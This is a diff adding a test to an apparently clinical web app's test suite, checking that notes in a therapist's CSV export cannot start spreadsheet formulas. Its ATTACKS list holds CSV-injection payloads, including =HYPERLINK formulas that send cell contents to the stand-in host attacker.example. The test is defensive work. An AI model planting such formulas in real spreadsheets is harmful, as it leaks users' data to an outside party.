@@ -368,3 +368,38 @@ def test_review_uses_the_same_few_queries_for_one_visit_or_five_years(client, fa
     assert len(many) <= 15, many.statements
     html = client.get(f"/patients/{large.id}/review").get_data(as_text=True)
     assert "18: " in html  # the 18th cycle is listed
+
+
+ATTACKS = (
+    'felt ok;=HYPERLINK("http://attacker.example/?x="&A1,"open")',
+    'felt ok\n=HYPERLINK("http://attacker.example/?x="&A1,"open")',
+    "felt ok\r\n@SUM(1+1)*cmd",
+    "felt ok;1+1",
+    "ok\t-2+3",
+    'ok; "=1+1"',
+    "felt ok;=1+1",
+)
+
+
+def test_no_formula_can_start_anywhere_in_the_therapists_csv(client, team):
+    """Issue 12 finding 3: a note with a formula after a separator or a line break."""
+    from tests.spreadsheets import formula_cells, formula_starts
+
+    therapist, _, patient = team
+    for n, note in enumerate(ATTACKS):
+        db.session.add(
+            PracticeSession(
+                patient_id=patient.id,
+                performed_at=datetime(2026, 1, 5, 9, tzinfo=UTC) + timedelta(hours=n),
+                effort=2,
+                synkinesis_rating=3,
+                note=note,
+            )
+        )
+    db.session.commit()
+    login_as(client, therapist)
+    text = client.get(f"/patients/{patient.id}/export.csv").get_data().decode("utf-8-sig")
+    assert formula_starts(text) == [] and formula_cells(text) == []
+    notes = [row["note"] for row in csv.DictReader(io.StringIO(text))]
+    assert notes[0] == 'felt ok;\'=HYPERLINK("http://attacker.example/?x="&A1,"open")'
+    assert notes[1].startswith("felt ok\n'=HYPERLINK(")
